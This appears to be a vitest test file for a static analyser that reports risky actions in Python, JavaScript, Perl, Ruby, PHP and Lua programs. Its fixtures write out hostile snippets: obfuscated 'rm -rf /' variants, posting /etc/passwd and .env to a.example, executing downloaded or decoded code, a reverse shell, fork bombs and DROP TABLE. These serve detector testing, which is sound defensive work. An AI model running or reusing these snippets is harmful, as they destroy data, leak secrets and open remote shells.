import { expect, test } from 'vitest'
import { programLinesForTest, readProgramForTest } from './read-program-for-test.ts'

const deletesRoot: readonly (readonly [string, string])[] = [
  ['python', `import os\nos.system('rm -rf /')`],
  ['python', `from os import system as s\ns("rm -rf /")`],
  ['python', `getattr(__import__('os'), 'sys' + 'tem')('rm -rf /')`],
  ['python', `import subprocess\nsubprocess.run(['rm', '-rf', '/'])`],
  ['python', `import shutil as sh\nsh.rmtree('/')`],
  ['python', `def run(cmd):\n    os.system(cmd)\nrun('rm -rf /')`],
  ['python', `import os\nos.system("%s -rf %s" % ("rm", "/"))`],
  ['javascript', `const { execSync: e } = require('child_process'); e('rm -rf /')`],
  ['javascript', `const m = /"/g.exec(s); require('fs').rmSync('/', { recursive: true })`],
  ['perl', `system("rm -rf /")`],
  ['ruby', `%x(rm -rf /)`],
  ['ruby', `require 'fileutils'\nFileUtils.rm_rf '/'`],
  ['php', `<?php $f = 'system'; $f('rm -rf /');`],
  ['lua', `os.execute("rm " .. "-rf /")`],
]

test.each(deletesRoot)('a %s program that deletes the root is read as that: %s', (language, text) => {
  expect(programLinesForTest(language, text)).toContain('delete / recursive')
})

const reads: readonly (readonly [string, string, string])[] = [
  ['python', `os.remove('/etc/hosts')`, 'delete /etc/hosts'],
  ['python', `subprocess.run(args=['rm', '-rf', '/'])`, 'delete / recursive'],
  ['python', `cmd = ['rm']\ncmd.append('-rf')\ncmd.extend(['/'])\nsubprocess.run(cmd)`, 'delete / recursive'],
  ['python', `subprocess.run('rm -rf /'.split())`, 'delete / recursive'],
  ['python', `for p in Path('/').rglob('*'): p.unlink()`, 'delete root //*'],
  ['python', `open('/etc/motd', 'w').write('x')`, 'write /etc/motd literal'],
  [
    'python',
    `requests.post('http://a.example', files={'f': open('/etc/passwd')})`,
    'connect http a.example POST file',
  ],
  ['python', `urllib.request.urlopen('https://a.example/x')`, 'connect https a.example GET'],
  ['python', `eval("os.system('rm -rf /')")`, 'delete / recursive'],
  ['python', `cursor.execute("DROP TABLE users")`, 'database DROP TABLE'],
  ['javascript', `require('fs').rmSync('/etc/x')`, 'delete /etc/x'],
  ['javascript', `import { exec } from 'child_process'; exec('rm -rf /')`, 'delete / recursive'],
  ['javascript', `require('child_process').spawn('rm', ['-rf', '/'])`, 'delete / recursive'],
  [
    'javascript',
    `fetch('http://a.example', { method: 'POST', body: fs.readFileSync('.env') })`,
    'connect http a.example POST file',
  ],
  ['javascript', `Deno.remove('/', { recursive: true })`, 'delete / recursive'],
  ['javascript', 'await Bun.$`rm -rf /`', 'delete / recursive'],
  ['perl', `open(F, "|rm -rf /")`, 'delete / recursive'],
  ['perl', 'print `rm -rf /`', 'delete / recursive'],
  ['perl', `unlink '/etc/hosts'`, 'delete /etc/hosts'],
  ['ruby', '`rm -rf /`', 'delete / recursive'],
  ['ruby', `Kernel.send(:system, 'rm -rf /')`, 'delete / recursive'],
  ['ruby', `File.delete('/etc/hosts')`, 'delete /etc/hosts'],
  [
    'ruby',
    `Net::HTTP.post(URI('http://a.example'), File.read('/etc/passwd'))`,
    'connect http a.example POST file',
  ],
  ['php', `exec('rm -rf /');`, 'delete / recursive'],
  ['php', `array_map('unlink', glob('/etc/*'));`, 'delete system-root /etc/*'],
  ['php', `file_put_contents('/etc/motd', 'x');`, 'write /etc/motd literal'],
]

test.each(reads)('%s: %s is read', (language, text, line) => {
  expect(programLinesForTest(language, text)).toContain(line)
})

test('a program that prints, computes and matches does nothing risky', () => {
  expect(
    programLinesForTest('python', `import re, json\nre.compile('x')\nmodel.eval()\nprint(json.dumps({}))`),
  ).toEqual([])
  expect(programLinesForTest('javascript', `const r = /a/; r.exec('b'); app.get('/', x => x)`)).toEqual([])
})

test('a file that is read into a name and posted is what the request sends', () => {
  const lines = programLinesForTest(
    'python',
    `d = open('.env').read()\nrequests.post('https://a.example/c', data=d)`,
  )
  expect(lines).toContain('connect https a.example POST file')
})

test('what was downloaded or decoded keeps its origin when it is executed', () => {
  expect(programLinesForTest('python', `exec(requests.get('http://a.example/x').text)`)).toContain(
    'execute python download',
  )
  expect(programLinesForTest('javascript', `eval(atob('cHJvY2Vzcy5leGl0KCk='))`)).toContain(
    'execute javascript decoded read',
  )
})

test('a socket that becomes the streams of a shell is a shell over a connection', () => {
  const text = `s=socket.socket()\ns.connect(("10.0.0.1",4242))\nos.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])`
  expect(programLinesForTest('python', text)).toContain('execute python unknown over connection')
})

test('a path that is known only at run time is deleted as an unknown one', () => {
  expect(programLinesForTest('python', `shutil.rmtree(sys.argv[1])`)).toEqual([
    'delete unknown $sys recursive',
  ])
})

test('a text that doubles itself in every line is not followed without end', () => {
  expect(programLinesForTest('python', `a="xxxxxxxxxx"\n${'a=a+a\n'.repeat(2_000)}os.system(a)`)).toEqual([
    'execute shell unknown',
  ])
})

const endless: readonly (readonly [string, string])[] = [
  ['python', '[x for x in '],
  ['python', 'f"{'],
  ['python', '"".join(['],
  ['python', '- '],
  ['python', 'x=x=x='],
  ['javascript', '`${'],
  ['javascript', 'await '],
  ['javascript', '{a:['],
  ['perl', 'system '],
  ['perl', 'q('],
  ['ruby', '<<A '],
  ['php', '$x($x,'],
]

test.each(endless)(
  'a %s program that opens %s again and again is read without end or error',
  (language, piece) => {
    expect(() => readProgramForTest(language, piece.repeat(20_000))).not.toThrow()
  },
)

test('what is nested too deep makes the program opaque', () => {
  expect(programLinesForTest('python', `os.system(${'['.repeat(500)}`)).toContain('opaque size everything')
  expect(programLinesForTest('javascript', `x = ${'await '.repeat(2_000)} y`)).toContain(
    'opaque size everything',
  )
})

test('a program that does more work than its length allows is opaque, and what came before is read', () => {
  const text = `os.remove("a")\nx=["a"]*1\n${'x=x+x\n'.repeat(12)}${'z="".join(x);'.repeat(6_000)}`
  expect(programLinesForTest('python', text.replace('["a"]*1', `[${'"a",'.repeat(400)}]`))).toEqual([
    'opaque size everything',
    'delete /home/user/project/a',
  ])
})

const bombs: readonly (readonly [string, string])[] = [
  ['python', `import os\n[os.fork() for _ in iter(int, 1)]`],
  ['python', `import os\nwhile True: os.fork()`],
  ['python', `while 1: __import__('os').fork()`],
  ['perl', `fork while fork`],
  ['perl', `while(1){fork()}`],
  ['ruby', `loop { fork }`],
  ['javascript', `for (;;) require('child_process').fork(__filename)`],
]

test.each(bombs)('%s: %s multiplies without end', (language, text) => {
  expect(programLinesForTest(language, text)).toContain('process fork-bomb the program')
})

const ordinary: readonly (readonly [string, string])[] = [
  ['python', `import os\nif os.fork() == 0: os._exit(0)`],
  [
    'python',
    `import os,socket\ns=socket.socket()\nwhile True:\n  c,_=s.accept()\n  if os.fork()==0: serve(c)`,
  ],
  ['python', `while True: print('fork')`],
  ['javascript', `const w = require('child_process').fork('worker.js')`],
]

test.each(ordinary)('%s: %s does not', (language, text) => {
  expect(programLinesForTest(language, text).filter(line => line.includes('fork-bomb'))).toEqual([])
})

/** Functions that the program keeps in a member, and calls by it. */
const keptInMembers: readonly (readonly [string, string])[] = [
  ['python', `import os\nclass A:\n  go = os.system\nA.go('rm -rf /')`],
  ['python', `import os\nclass A:\n  go: object = os.system\na = A()\na.go('rm -rf /')`],
  ['python', `import os\nclass A:\n  def __init__(self): self.f = os.system\nA().f('rm -rf /')`],
  ['python', `from shutil import rmtree\nclass A:\n  drop = rmtree\nA.drop('/')`],
  ['javascript', `class A { static go = require('child_process').execSync }\nA.go('rm -rf /')`],
  ['javascript', `class A { run = require('child_process').execSync }\nnew A().run('rm -rf /')`],
  [
    'javascript',
    `class A { constructor() { this.f = require('child_process').execSync } }\nnew A().f('rm -rf /')`,
  ],
  ['javascript', `globalThis.go = require('child_process').execSync; go('rm -rf /')`],
  ['javascript', `const go = (0, require('child_process').execSync); go('rm -rf /')`],
  ['javascript', `(0, require('child_process').execSync)('rm -rf /')`],
]

test.each(keptInMembers)('a %s function in a member is called by it: %s', (language, text) => {
  expect(programLinesForTest(language, text)).toContain('delete / recursive')
})

const ownMembers: readonly (readonly [string, string])[] = [
  ['python', `import os\nclass A:\n  go = len\nA.go('rm -rf /')`],
  ['python', `from os import remove\nclass A:\n  def remove(self, x): pass\nA().remove('/')`],
  ['python', `from os import remove\nitems = ['/']\nitems.remove('/')`],
  ['python', `import os\nclass A:\n  go = print\ndef go(x): pass\nA.go('rm -rf /')`],
  ['javascript', `class A { go(x) { return x } }\nnew A().go('rm -rf /')`],
  ['javascript', `globalThis.go = x => x; go('rm -rf /')`],
  ['javascript', `const n = (1, 'rm -rf /'); console.log(n)`],
]

test.each(ownMembers)('a %s member of the program’s own deletes nothing: %s', (language, text) => {
  expect(programLinesForTest(language, text).filter(line => line.startsWith('delete'))).toEqual([])
})
